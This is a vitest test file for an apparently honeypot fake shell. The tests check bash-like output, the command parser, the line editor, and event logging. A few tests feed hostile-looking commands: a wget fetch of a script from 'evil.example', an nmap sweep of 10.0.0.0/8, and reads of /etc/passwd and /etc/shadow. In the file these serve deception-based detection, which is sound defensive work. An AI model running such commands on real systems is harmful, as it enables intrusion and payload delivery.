import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { EmitFields } from '../runtime/types.js';
import { FakeShell, parseUsers, shellPersona } from './fake-shell.js';
import { MAX_COMMANDS, MAX_WORDS, parseShellLine } from './fake-shell-parse.js';
import { LineEditor, attachShell } from './fake-shell-terminal.js';

function shell(user = 'admin', config: Record<string, string> = { users: 'admin:pw,root:toor', kernel_version: '6.1.0-13-amd64' }) {
  const events: EmitFields[] = [];
  const persona = shellPersona({ config, hostname: 'SRV-ALPHA-12' });
  return { sh: new FakeShell({ user, persona, emit: (e) => events.push(e), localIp: '10.1.2.3' }), events };
}

describe('parseUsers', () => {
  it('parses user:pass lists, keeps colons in passwords, skips junk', () => {
    expect([...parseUsers('root:a:b, admin:x,bad,:nouser')]).toEqual([
      ['root', 'a:b'],
      ['admin', 'x'],
    ]);
    expect([...parseUsers(['u:p'])]).toEqual([['u', 'p']]);
  });
});

describe('FakeShell', () => {
  it('prompts like bash, # for root', () => {
    expect(shell().sh.prompt()).toBe('admin@SRV-ALPHA-12:~$ ');
    expect(shell('root').sh.prompt()).toBe('root@SRV-ALPHA-12:~# ');
  });
  it('uname uses the persona kernel and hostname', () => {
    const { sh } = shell();
    expect(sh.execute('uname -a').output).toMatch(/^Linux SRV-ALPHA-12 6\.1\.0-13-amd64 .* GNU\/Linux\n$/);
    expect(sh.execute('uname -r').output).toBe('6.1.0-13-amd64\n');
    expect(sh.execute('uname').output).toBe('Linux\n');
    expect(sh.execute('uname -s -n').output).toBe('Linux SRV-ALPHA-12\n');
  });
  it('defaults the kernel and users', () => {
    const p = shellPersona({ config: {}, hostname: 'h' });
    expect(p.kernel).toBe('5.15.0-91-generic');
    expect(p.users.get('root')).toBe('root');
  });
  it('id/whoami/pwd/cd/ls/cat behave plausibly', () => {
    const { sh } = shell();
    expect(sh.execute('whoami').output).toBe('admin\n');
    expect(sh.execute('id').output).toMatch(/^uid=1000\(admin\) gid=1000\(admin\)/);
    expect(sh.execute('pwd').output).toBe('/home/admin\n');
    expect(sh.execute('cd /etc && pwd').output).toBe('/etc\n');
    expect(sh.prompt()).toBe('admin@SRV-ALPHA-12:/etc$ ');
    expect(sh.execute('cat hostname').output).toBe('SRV-ALPHA-12\n');
    expect(sh.execute('cat /etc/passwd').output).toContain('admin:x:1000:1000:');
    expect(sh.execute('cat /etc/os-release').output).toContain('ID=ubuntu');
    const missing = sh.execute('cat /nope');
    expect(missing.output).toBe('cat: /nope: No such file or directory\n');
    expect(missing.exitCode).toBe(1);
    expect(sh.execute('cat /etc/shadow').output).toContain('Permission denied');
    expect(sh.execute('ls /').output).toContain('etc  home');
    expect(sh.execute('ls -la ~').output).toMatch(/drwxr-xr-x 2 admin +admin +4096 .* \.bashrc|\.bashrc/);
    expect(sh.execute('cd /nowhere').output).toContain('No such file or directory');
    expect(sh.execute('cd; pwd').output).toBe('/home/admin\n');
  });
  it('echo, hostname, pipes, && and ||, redirects, env', () => {
    const { sh } = shell();
    expect(sh.execute('echo "hello  world" \'$HOME\' $HOME').output).toBe('hello  world $HOME /home/admin\n');
    expect(sh.execute('hostname').output).toBe('SRV-ALPHA-12\n');
    expect(sh.execute('false && echo no || echo yes').output).toBe('yes\n');
    expect(sh.execute('echo a > /tmp/x; echo b 2>&1').output).toBe('b\n');
    expect(sh.execute('cat /etc/passwd | whoami').output).toBe('admin\n');
  });
  it('ifconfig/ip a show the local address; ps, w, uptime, history', () => {
    const { sh } = shell();
    expect(sh.execute('ifconfig').output).toContain('inet 10.1.2.3');
    expect(sh.execute('ip a').output).toContain('inet 10.1.2.3/24');
    expect(sh.execute('ps aux').output).toContain('/sbin/init');
    expect(sh.execute('uptime').output).toMatch(/up \d+ days/);
    expect(sh.execute('w').output).toContain('USER');
    expect(sh.execute('history').output).toMatch(/1 {2}ifconfig\n/);
  });
  it('unknown commands, exit, and every line is an event', () => {
    const { sh, events } = shell();
    const r = sh.execute('nmap -sS 10.0.0.0/8');
    expect(r.output).toBe('bash: nmap: command not found\n');
    expect(r.exitCode).toBe(127);
    expect(sh.execute('exit 3')).toMatchObject({ exit: true, exitCode: 3 });
    expect(events.filter((e) => e.event === 'command').map((e) => e['command'])).toEqual(['nmap -sS 10.0.0.0/8', 'exit 3']);
  });
  it('wget/curl are download attempts', () => {
    const { sh, events } = shell();
    expect(sh.execute('wget http://evil.example/x.sh').exitCode).toBe(4);
    expect(events).toContainEqual(expect.objectContaining({ event: 'download_attempt', url: 'http://evil.example/x.sh' }));
  });
  it('fuzz: arbitrary lines never throw and produce bounded output', () => {
    const { sh } = shell();
    fc.assert(
      fc.property(fc.string({ maxLength: 600, unit: 'binary' }), (line) => {
        const r = sh.execute(line);
        expect(r.output.length).toBeLessThan(64 * 1024);
      }),
      { numRuns: 500 },
    );
  });
});

describe('parseShellLine', () => {
  it('handles quotes, escapes, operators and comments', () => {
    expect(parseShellLine(`a 'b c' "d\\"e" f\\ g; h && i || j | k # c`)).toEqual([
      { argv: ['a', 'b c', 'd"e', 'f g'], joiner: ';' },
      { argv: ['h'], joiner: ';' },
      { argv: ['i'], joiner: '&&' },
      { argv: ['j'], joiner: '||' },
      { argv: ['k'], joiner: '|' },
    ]);
  });
  it('fuzz: bounded result for any input', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 5000 }), (s) => {
        const r = parseShellLine(s);
        expect(r.length).toBeLessThanOrEqual(MAX_COMMANDS);
        for (const c of r) expect(c.argv.length).toBeLessThanOrEqual(MAX_WORDS);
      }),
    );
  });
});

describe('LineEditor / attachShell', () => {
  it('echoes, handles backspace, CRLF, escape sequences, ^C and ^D', () => {
    const ed = new LineEditor();
    const evs = ed.feed(Buffer.from('lx\x7fs\x1b[A -l\r\nid\r\0\x03\x04'));
    expect(evs.filter((e) => e.type === 'line')).toEqual([
      { type: 'line', line: 'ls -l' },
      { type: 'line', line: 'id' },
    ]);
    expect(evs.map((e) => e.type)).toEqual(['echo', 'line', 'echo', 'line', 'echo', 'interrupt', 'eof']);
  });
  it('drives a shell session over a transport', () => {
    const { sh } = shell();
    let out = '';
    let closed: number | undefined;
    const feed = attachShell(sh, { write: (t) => (out += t), close: (c) => (closed = c) }, 'hi\n');
    feed(Buffer.from('whoami\r'));
    feed(Buffer.from('\nexit\r\n'));
    expect(out).toBe('hi\r\nadmin@SRV-ALPHA-12:~$ whoami\r\nadmin\r\nadmin@SRV-ALPHA-12:~$ exit\r\nlogout\r\n');
    expect(closed).toBe(0);
  });
  it('fuzz: arbitrary bytes never throw and lines stay bounded', () => {
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 2000 }), { maxLength: 5 }), (chunks) => {
        const ed = new LineEditor(100);
        for (const c of chunks)
          for (const e of ed.feed(Buffer.from(c))) if (e.type === 'line') expect(Buffer.byteLength(e.line)).toBeLessThanOrEqual(300);
      }),
    );
  });
});
